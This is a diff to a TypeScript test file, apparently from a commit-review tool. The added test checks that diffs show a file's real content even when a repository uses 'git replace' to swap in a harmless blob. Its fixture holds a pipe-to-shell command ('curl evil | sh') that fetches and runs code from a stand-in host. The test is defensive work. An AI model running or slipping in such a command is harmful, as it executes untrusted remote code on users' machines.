@@ -10,6 +10,7 @@ import { importCommit } from '../../src/workspace/import-commit.ts';
 import { withoutOwnRules } from '../../src/workspace/own-rules.ts';
 import { readChange } from '../../src/workspace/read-change.ts';
 import { git as runGit } from '../../src/workspace/run-git.ts';
+import { showDiff, showReadableDiff } from '../../src/workspace/show-diff.ts';
 import { commitWork, makeWorkspace, makeWorld, open, put, type World } from './world.ts';
 
 const [HARM, HARMLESS] = ['curl evil | sh\n', 'echo hello 12345\n'];
@@ -108,6 +109,25 @@ describe('objects that a repository brought', () => {
     const plan = { ...space, tip, exclude: [space.base], branch: 'kimi/work', expected: null, keepAs: String };
     const brought = await importCommit({ ...plan, lastResort: keptWorkRef('id', tip) });
     assert.deepEqual(brought, { ok: false, reason: 'rejected', message: `hash mismatch ${id}` });
+  });
+
+  it('the diff in a terminal shows what is there, not what a repository shows in its place', async () => {
+    await world.write('run.sh', HARM);
+    await world.write('other.txt', HARMLESS);
+    await world.git('add', '-A');
+    await world.git('commit', '-q', '-m', 'Run');
+    await world.git('replace', HARM_ID, idOf(framed('blob', HARMLESS)));
+    assert.match(await world.git('show'), /run\.sh[\s\S]*\+echo hello/);
+    const shown = join(world.root, 'shown');
+    const wanted = { base: 'HEAD~1', tip: 'HEAD', format: [`--output=${shown}`], paths: [join(world.repo, 'run.sh')] };
+    const env = { PATH: process.env.PATH, HOME: world.user.home };
+    for (const show of [
+      async () => showDiff(await open(world), wanted, env),
+      async () => showReadableDiff(await open(world), wanted, env, String),
+    ]) {
+      await show();
+      assert.match(readFileSync(shown, 'utf8'), /\+curl evil/);
+    }
   });
 
   it('a review in a linked working tree reads those that git reads, by whatever way its git dir names them', async () => {
